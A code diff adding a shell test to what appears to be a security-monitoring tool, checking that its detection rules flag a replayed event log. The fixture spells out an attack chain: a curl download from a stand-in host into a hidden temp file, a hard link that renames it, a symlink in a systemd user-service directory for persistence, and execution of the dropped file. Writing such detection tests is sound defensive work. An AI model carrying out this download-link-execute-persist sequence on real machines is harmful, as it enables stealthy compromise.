@@ -233,6 +233,32 @@ LOG
 	[[ "$output" != *"rule 'download-piped-to-shell'"* ]] || { show; false; }
 }
 
+@test "the replay reads link records: a hard link of a download is the download, a symlink's target is text" {
+	cat >"$DIR/links.jsonl" <<'LOG'
+{"seq":1,"type":"exec","job_id":1,"pid":100,"tid":100,"start_ns":1000,"ppid":99,"parent_start_ns":1,"comm":"bash","filename":"/bin/bash","exe":"/usr/bin/bash","cwd":"/src","argc":2,"argv":["bash","setup.sh"]}
+{"seq":2,"type":"fork","job_id":1,"pid":101,"tid":101,"start_ns":1010,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
+{"seq":3,"type":"exec","job_id":1,"pid":101,"tid":101,"start_ns":1010,"ppid":100,"parent_start_ns":1000,"comm":"curl","filename":"/usr/bin/curl","exe":"/usr/bin/curl","cwd":"/src","argc":4,"argv":["curl","-o","/tmp/.dl","https://x.example/a"]}
+{"seq":4,"type":"connect","job_id":1,"pid":101,"tid":101,"start_ns":1010,"family":"ipv4","address":"192.0.2.7","port":443,"proto":"tcp","result":0,"fd":3,"comm":"curl"}
+{"seq":5,"type":"file","job_id":1,"pid":101,"tid":101,"start_ns":1010,"op":"open-write","path":"/tmp/.dl","path2":null,"resolved":true,"open_flags":577,"result":0,"truncated":false,"comm":"curl"}
+{"seq":6,"type":"fork","job_id":1,"pid":102,"tid":102,"start_ns":1020,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
+{"seq":7,"type":"exec","job_id":1,"pid":102,"tid":102,"start_ns":1020,"ppid":100,"parent_start_ns":1000,"comm":"ln","filename":"/usr/bin/ln","exe":"/usr/bin/ln","cwd":"/src","argc":3,"argv":["ln","/tmp/.dl","/tmp/tool"]}
+{"seq":8,"type":"file","job_id":1,"pid":102,"tid":102,"start_ns":1020,"op":"link","path":"/tmp/.dl","path2":"/tmp/tool","resolved":false,"open_flags":0,"result":0,"truncated":false,"comm":"ln"}
+{"seq":9,"type":"file","job_id":1,"pid":102,"tid":102,"start_ns":1020,"op":"symlink","path":"/root/.config/systemd/user/x.service","path2":null,"target":"/tmp/x.service","resolved":false,"open_flags":0,"result":0,"truncated":false,"comm":"ln"}
+{"seq":10,"type":"fork","job_id":1,"pid":103,"tid":103,"start_ns":1030,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
+{"seq":11,"type":"exec","job_id":1,"pid":103,"tid":103,"start_ns":1030,"ppid":100,"parent_start_ns":1000,"comm":"tool","filename":"/tmp/tool","exe":"/tmp/tool","cwd":"/src","argc":1,"argv":["/tmp/tool"]}
+LOG
+	"$BW" policy default >"$DIR/default.yaml"
+	run --separate-stderr $T "$BW" policy test "$DIR/default.yaml" "$DIR/links.jsonl"
+	[ "$status" -eq 1 ] || { show; false; }
+	[[ "$output" == *"links.jsonl:9: rule 'persistence-write'"*"would alert"* ]] || { show; false; }
+	[[ "$output" == *"links.jsonl:11: rule 'dropped-file-executed'"*"would alert"* ]] || { show; false; }
+	[[ "$output" != *"links.jsonl:8: rule '"* ]] || { show; false; }
+	# Without the link, /tmp/tool is no download.
+	sed -i '8d' "$DIR/links.jsonl"
+	run --separate-stderr $T "$BW" policy test "$DIR/default.yaml" "$DIR/links.jsonl"
+	[[ "$output" != *"rule 'dropped-file-executed'"* ]] || { show; false; }
+}
+
 @test "a saved real run: its flagged curl is left out, so test fires on it alone" {
 	run --separate-stderr $T "$BW" policy suggest "$RUN_LOG" "$RUN_LOG"
 	[ "$status" -eq 0 ] || { show; false; }
